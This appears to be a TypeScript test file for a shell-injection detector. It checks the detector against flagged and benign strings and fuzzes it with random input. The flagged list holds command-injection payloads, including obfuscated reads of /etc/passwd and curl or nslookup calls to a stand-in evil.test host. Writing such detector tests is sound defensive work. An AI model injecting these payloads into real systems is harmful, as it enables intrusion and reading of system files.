import assert from 'node:assert/strict'
import test from 'node:test'
import * as fc from 'fast-check'
import type { DetectionConfidence } from '../detection.ts'
import { detectShell, type ShellFindingName } from './detect-shell.ts'

const FOUND: readonly (readonly [value: string, finding: ShellFindingName, confidence: DetectionConfidence])[] = [
  ['; cat /etc/passwd', 'chained-command', 'certain'],
  ['127.0.0.1; id', 'bare-chained-command', 'likely'],
  ['127.0.0.1|id', 'bare-chained-command', 'likely'],
  ["';ls -la #", 'chained-command', 'likely'],
  ['||ping -c 10 127.0.0.1', 'chained-command', 'likely'],
  ['& dir c:\\', 'chained-command', 'certain'],
  ['$(id)', 'command-substitution', 'likely'],
  ['`id`', 'command-substitution', 'likely'],
  ['$(nslookup x.evil.test)', 'command-substitution', 'likely'],
  ['>(cat /etc/passwd)', 'command-substitution', 'certain'],
  ["a;c'a't /etc/passwd", 'disguised-command', 'certain'],
  ['a;c\\at /etc/passwd', 'disguised-command', 'certain'],
  ['a;w$@hoami', 'disguised-command', 'certain'],
  ['a|w^h^o^a^m^i', 'disguised-command', 'certain'],
  ["a;$'\\x63at' /etc/passwd", 'disguised-command', 'certain'],
  [';/???/c?t /???/p??s??', 'disguised-command', 'certain'],
  ['x;cat$IFS/etc/passwd', 'variable-separator', 'certain'],
  ['x;curl${IFS}http://evil.test', 'variable-separator', 'certain'],
  [';{cat,/etc/passwd}', 'variable-separator', 'certain'],
  ['cat /etc/passwd', 'whole-command', 'likely'],
  ['sh -c whoami', 'whole-command', 'likely'],
  ['ls -la', 'whole-command', 'weak'],
  ['a long text that somebody wrote about shells, and at its end; uname -a', 'chained-command', 'weak'],
  ['npm run build && node dist/index.js', 'whole-command', 'weak'],
  ['name|id', 'bare-chained-command', 'weak'],
]

test('commands are found where a shell would start one', () => {
  for (const [value, finding, confidence] of FOUND) {
    const detection = detectShell(value)
    assert.equal(detection?.finding, finding, value)
    assert.equal(detection?.confidence, confidence, value)
    assert.ok(detection.offset >= 0 && detection.offset + detection.length <= value.length, value)
  }
})

const ORDINARY: readonly string[] = [
  'Tom & Jerry',
  'cats; dogs; find the best',
  'R&D; sort of',
  'python | ruby | php',
  'AT&T',
  'a && b || c',
  'Price < 5; time to go',
  'who; what; when',
  'if (a) { b; }',
  'it is; set the date',
  'rock & roll; more at 5',
  'Kill Bill; cat',
  'text/html;q=0.9',
  'a=1&id=5&sort=x',
  'Ben & Cat 5',
  '; echo chamber of secrets',
  'find me at /home',
  '100% cotton; cut & sewn in EU',
  'make; install',
  '$(document).ready(function(){',
  '$("#id").find("a")',
  '`${name}`',
  'Mozilla/5.0 (X11; Linux x86_64; rv:141.0) Gecko/20100101 Firefox/141.0',
  "O'Neil; Smith",
  'size: 5; type: large',
]

test('words after separators are no commands', () => {
  for (const value of ORDINARY) {
    const { confidence } = detectShell(value) ?? {}
    assert.ok(confidence === undefined || confidence === 'weak', `${value}: ${confidence}`)
  }
})

test('any bytes give an answer inside the value', () => {
  const noise = fc.string({ unit: fc.constantFrom(...';|&`$(){}<>\'"\\ \n/?*catid-^@%'), maxLength: 400 })
  fc.assert(
    fc.property(noise, (value) => {
      const detection = detectShell(value)
      assert.ok(detection === undefined || detection.offset + detection.length <= value.length)
    }),
    { numRuns: 500 },
  )
  for (const unit of [';', "'", '\\', '$(', '`', ';cat ', "c''", '$@', '\n', '{', ';${', "$'\\x63'"])
    detectShell(unit.repeat(65_536 / unit.length))
})
